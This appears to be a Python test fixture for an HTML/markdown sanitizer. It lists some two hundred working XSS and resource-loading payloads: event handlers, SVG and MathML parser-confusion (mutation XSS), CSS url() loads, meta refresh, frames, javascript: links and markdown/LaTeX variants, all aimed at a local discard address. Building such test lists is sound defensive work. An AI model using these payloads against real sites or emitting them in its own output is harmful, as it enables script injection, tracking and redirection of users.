"""Outputs and names that try to run, to load, to send, or to lead the reader away."""

from __future__ import annotations

HOST = "http://127.0.0.1:9"
J = "document.title='ran'"
IMG = f'<img src={HOST}/x.png onerror="{J}">'
REFRESH = f"<meta http-equiv=refresh content='0;url={HOST}/away'>"

#: each is a piece of HTML; a browser that takes it as it is asks for something, goes elsewhere, or runs something
HTML = [
    # scripts
    f"<script>{J}</script>", f"<script src={HOST}/x.js></script>", f"<script type=module>import '{HOST}/x.js'</script>",
    f"<scr<script>ipt>{J}</scr</script>ipt>", f"<svg><script>{J}</script></svg>", f"<svg><script href={HOST}/x.js /></svg>",
    f"<svg><script xlink:href='data:text/javascript,{J}'/></svg>", f"<math><script>{J}</script></math>",
    f"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{HOST}/p\"]}}]}}</script>",
    # handlers
    IMG, f"<img src=x onerror=\"{J}\">", f"<img/src=x/onerror={J}>", f"<body onload=\"{J}\">", f"<svg onload=\"{J}\">",
    f"<svg/onload={J}>", f"<details open ontoggle=\"{J}\"><summary>x</summary></details>",
    f"<input autofocus onfocus=\"{J}\">", f"<select autofocus onfocus=\"{J}\"></select>",
    f"<textarea autofocus onfocus=\"{J}\"></textarea>", f"<p tabindex=0 autofocus onfocus=\"{J}\">x</p>",
    f"<marquee onstart=\"{J}\">x</marquee>", f"<video><source onerror=\"{J}\"></video>", f"<audio src=x onerror=\"{J}\">",
    f"<div style='animation: x 1s' onanimationstart=\"{J}\">x</div><style>@keyframes x {{}}</style>",
    f"<svg><animate onbegin=\"{J}\" attributeName=x dur=1s></svg>", f"<svg><set onbegin=\"{J}\" attributeName=x></svg>",
    f"<p onpointerover=\"{J}\" style='position:fixed;inset:0'>x</p>", f"<b oncontentvisibilityautostatechange=\"{J}\" "
    "style='display:block;content-visibility:auto'>x</b>", f"<xss onscrollend=\"{J}\" style='overflow:auto'>x</xss>",
    f"<body onhashchange=\"{J}\" onpageshow=\"{J}\">", f"<img src='x' \n onerror\n=\n\"{J}\">",
    # markup in styles that are none where they stand
    f"<svg><style>{REFRESH}</style></svg>", f"<math><style>{REFRESH}</style></math>", f"<svg><style>{IMG}</style></svg>",
    f"<math><style>{IMG}</style></math>", f"<svg><style/>{IMG}</svg>", f"<style/>{IMG}", f"<style />{REFRESH}",
    f"<svg><style></style>{REFRESH}</svg>", f"<math><mi><style>{IMG}</style></mi></math>",
    f"<svg><style><!--</style>{IMG}--></style></svg>", f"<style><!--</style>{IMG}-->", f"<svg><desc><style>{REFRESH}</style>",
    f"<svg><title><style>{REFRESH}</style></title></svg>", f"<math><annotation-xml><style>{REFRESH}</style></math>",
    f"<svg><style><![CDATA[</style>{IMG}]]></style></svg>", f"<svg><p><style>{IMG}</style></svg>",
    f"<style title='</style>{IMG}'></style>", f"<svg><style>&lt;img src=x onerror=\"{J}\"&gt;</style></svg>",
    # parts of drawings
    f"<svg><foreignObject>{IMG}</foreignObject></svg>", f"<svg><foreignObject><iframe src={HOST}/f></iframe></svg>",
    f"<svg><foreignobject>{REFRESH}</foreignobject></svg>", f"<svg><image href={HOST}/x.png /></svg>",
    f"<svg><image xlink:href={HOST}/x.png /></svg>", f"<svg><use href={HOST}/x.svg#y /></svg>",
    f"<svg><use xlink:href=\"data:image/svg+xml,<svg id='x' onload='{J}'/>#x\"/></svg>",
    f"<svg><feImage href={HOST}/x.png /></svg>", f"<svg><rect fill='url({HOST}/x.svg#y)' width=9 height=9></svg>",
    f"<svg><a href=\"javascript:{J}\"><animate attributeName=href values=\"javascript:{J}\"/><text y=9>x</text></a></svg>",
    f"<svg><text style='filter:url({HOST}/f.svg#f)'>x</text></svg>", f"<svg><set attributeName=href to={HOST}/></svg>",
    # frames and what is embedded
    f"<iframe src={HOST}/f></iframe>", f"<iframe src=\"javascript:parent.{J}\"></iframe>", f"<iframe srcdoc='{IMG}'></iframe>",
    f"<iframe srcdoc=\"<script>parent.document.title='ran'</script>\"></iframe>", f"<frameset><frame src={HOST}/f></frameset>",
    f"<object data={HOST}/o></object>", f"<object data='data:text/html,<script>{J}</script>'></object>",
    f"<embed src={HOST}/e>", f"<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{J}'/>\">",
    f"<applet code={HOST}/a></applet>", f"<portal src={HOST}/p></portal>", f"<fencedframe src={HOST}/p></fencedframe>",
    f"<iframe/src=data:text/html,{J}>", f"<object type=text/html data={HOST}/o><param name=src value={HOST}/p></object>",
    # the page itself
    REFRESH, f"<META HTTP-EQUIV='Refresh' CONTENT='0; {HOST}/away'>", f"<base href={HOST}/>x", f"<link rel=stylesheet href={HOST}/x.css>",
    f"<link rel=prefetch href={HOST}/x>", f"<link rel=preload as=image href={HOST}/x>", f"<link rel=dns-prefetch href={HOST}>",
    f"<link rel=preconnect href={HOST}>", f"<link rel=icon href={HOST}/x.ico>", f"<link rel=manifest href={HOST}/m>",
    f"<link rel=modulepreload href={HOST}/x.js>", f"<html manifest={HOST}/m>", f"<body background={HOST}/x.png>",
    f"<meta http-equiv=Content-Security-Policy-Report-Only content=\"img-src 'none'; report-uri {HOST}/r\">{IMG}",
    f"<noscript>{REFRESH}{IMG}</noscript>", f"<head>{REFRESH}</head>", f"</body></html>{REFRESH}",
    # styles that load
    f"<style>@import '{HOST}/x.css';</style>", f"<style>@import url({HOST}/x.css);</style>",
    f"<style>@font-face {{ font-family: x; src: url({HOST}/x.woff) }} * {{ font-family: x }}</style>",
    f"<style>body {{ background: url({HOST}/x.png) }}</style>", f"<style>* {{ cursor: url({HOST}/x.cur), auto }}</style>",
    f"<style>li {{ list-style-image: url({HOST}/x.png) }}</style>", f"<style>h1::after {{ content: url({HOST}/x.png) }}</style>",
    f"<style>body {{ background: u\\72l({HOST}/x.png) }}</style>", f"<style>a {{}} </style ><style>@import '{HOST}/y.css'</style>",
    f"<style>body {{ background: image-set('{HOST}/x.png' 1x) }}</style>", f"<p style='background:url({HOST}/x.png)'>x</p>",
    f"<p style='background:u\\72 l(&quot;{HOST}/x.png&quot;)'>x</p>", f"<p style=\"--x:url({HOST}/x.png);background:var(--x)\">x</p>",
    f"<p style='border-image:url({HOST}/x.png) 1'>x</p>", f"<p style='mask:url({HOST}/x.svg)'>x</p>",
    f"<p style='list-style:url({HOST}/x.png);display:list-item'>x</p>", f"<p style='color:red;/**/background:/**/url({HOST}/x)'>",
    f"<style>#x {{ background: url({HOST}/x.png) }}</style><p id=x>x</p>", f"<style>@namespace url({HOST}/n);</style>",
    f"<p style=\"font-family:'}}</style>{IMG}'\">x</p>", f"<style>#x {{ font-family: '</sty\\6ce>{IMG}' }}</style><p id=x>x</p>",
    # addresses in attributes
    f"<img srcset='{HOST}/x.png 1x'>", f"<img src=data:, srcset='{HOST}/x.png 2x, {HOST}/y.png 1x' sizes=9px>",
    f"<picture><source srcset={HOST}/x.png><img src=data:,></picture>", f"<img lowsrc={HOST}/x.png dynsrc={HOST}/x>",
    f"<video poster={HOST}/x.png></video>", f"<video src={HOST}/x.mp4 autoplay></video>", f"<audio src={HOST}/x.mp3 autoplay></audio>",
    f"<video><track default src={HOST}/x.vtt></video>", f"<input type=image src={HOST}/x.png>", f"<table background={HOST}/x.png><td>x</table>",
    "<img src=//127.0.0.1:9/x.png>", "<img src='\\\\127.0.0.1:9\\x.png'>", "<img src='/\t/127.0.0.1:9/x.png'>", "<img src='ftp://127.0.0.1:9/x.png'>",
    f"<img src=\"ht\ntp://127.0.0.1:9/x.png\">", f"<img src='h&#116;tp://127.0.0.1:9/x.png'>", "<img src=run.json>",
    f"<image src={HOST}/x.png>", f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{HOST}/x.png'/></svg>\">",
    # links that are clicked, and forms that are sent
    f"<a id=go href=\"javascript:{J}\">x</a>", f"<a href=\"java\nscript:{J}\">x</a>", f"<a href=\"&#1;javascript:{J}\">x</a>",
    f"<a href=\"data:text/html,<script>{J}</script>\">x</a>", f"<a href=\"vbscript:{J}\">x</a>", f"<a href='#x' ping={HOST}/p>x</a>",
    f"<map name=m><area href=\"javascript:{J}\" coords=0,0,9,9></map>", f"<form action={HOST}/s><input autofocus name=a><button>x</button></form>",
    f"<form id=f></form><button form=f formaction={HOST}/s>x</button>", f"<isindex action={HOST}/s>", f"<form action=\"javascript:{J}\"><input type=submit></form>",
    f"<math href=\"javascript:{J}\"><mi href=\"javascript:{J}\">x</mi></math>", f"<math><maction actiontype=statusline href=\"javascript:{J}\">x</maction></math>",
    f"<math xlink:href=\"javascript:{J}\" xmlns:xlink='http://www.w3.org/1999/xlink'><mi>x</mi></math>",
    # what is read twice and differs (mutation)
    f"<noscript><p title=\"</noscript>{IMG}\">", f"<noscript><style></noscript>{IMG}</style>", f"<template>{IMG}</template>",
    f"<textarea></textarea>{IMG}</textarea>", f"<title></title>{IMG}</title>", f"<xmp></xmp>{IMG}</xmp>", f"<plaintext>{IMG}",
    f"<textarea><p title=\"</textarea>{IMG}\">", f"<title><a title=\"</title>{IMG}\">", f"<xmp><p title=\"</xmp>{IMG}\">",
    f"<noembed><p title=\"</noembed>{IMG}\">", f"<noframes><p title=\"</noframes>{IMG}\">", f"<iframe><p title=\"</iframe>{IMG}\">",
    f"<math><mtext><table><mglyph><style><math><table id='</table>'>{IMG}", f"<math><mtext><table><mglyph><style><!--</style>{IMG}-->",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}", f"<svg></p><style><a id=\"</style>{IMG}\">",
    f"<svg><![CDATA[><image xlink:href=\"]]>{IMG}//\"></svg>", f"<math><![CDATA[{IMG}]]></math>", f"<![CDATA[><script>{J}</script>]]>",
    f"<!--><script>{J}</script>-->", f"<!-- --!>{IMG}-->", f"<!--{IMG}", f"<? {IMG} ?>", f"<!doctype {IMG}>", f"</ {IMG}>",
    f"<math><annotation-xml encoding='text/html'>{IMG}</annotation-xml></math>", f"<math><mi><mglyph src={HOST}/x.png></mi></math>",
    f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style>{IMG}\"></style></mtext></svg></mglyph>",
    f"<table><svg><desc><td><style>{IMG}</style></td></desc></svg></table>", f"<select><template><style><!--</style>{IMG}--></template></select>",
    f"<p title='\"><script>{J}</script>'>x</p>", f"<p title=`a`{IMG}`>", f"<div a=\"`><script>{J}</script>\">", f"<b/{IMG}>",
    f"</div></div></main></body></html>{IMG}", f"</style>{IMG}", f"</script>{IMG}", f"</pre></code></details>{IMG}", f"</title></head>{IMG}",
    f"\x00<scr\x00ipt>{J}</scr\x00ipt>", f"<\u017fcript>{J}</\u017fcript>", f"<svg><\u017ftyle>{IMG}</svg>", f"<img src=x onerror=&#100;ocument.title='ran'>",
    f"<dialog open>{IMG}</dialog>", f"<slot>{IMG}</slot>", f"<div><template shadowrootmode=open>{IMG}<style>@import '{HOST}/x.css'</style></template></div>",
    f"<object><embed src={HOST}/e></object>", f"<script>alert(1);confirm(1);prompt(1);print()</script>", f"<img src=x onerror=alert(1)>",
    f"<svg onload=alert(1)>", f"<a href='{HOST}/a' download autofocus onfocus=\"this.click()\">x</a>", f"<button popovertarget=x onclick=alert(1)>x</button>",
]  # fmt: skip
# ruff: noqa: E501, F541

#: the same for places that are text: markdown, LaTeX, headings, names
TEXT = [
    *HTML[::6],
    f"![x]({HOST}/x.png)", f"[x](javascript:{J})", f"![x](javascript:{J})", f"<{HOST}/x>", f"[x]: {HOST}/x\n\n![x]", f"![x]({HOST}/x.png \"title' onerror='{J}\")",
    f"`{IMG}`", f"```html\n{IMG}\n```", f"$\\text{{{IMG}}}$", f"$$\\href{{javascript:{J}}}{{x}}$$", f"$\\unicode{{60}}img src=x$", f"$$<script>{J}</script>$$",
    f"| a |\n|---|\n| {IMG} |", f"[x](data:text/html,{IMG})", f"[{IMG}](x)", f"<a href=\"javascript:{J}\">x</a>", f"&lt;script&gt;{J}&lt;/script&gt;",
    f"[x](<java\nscript:{J}>)", f"# {IMG}", f"## </h2>{REFRESH}", f"[a](x){{onclick={J}}}", f"![](data:image/svg+xml,<svg onload={J}>)",
]  # fmt: skip
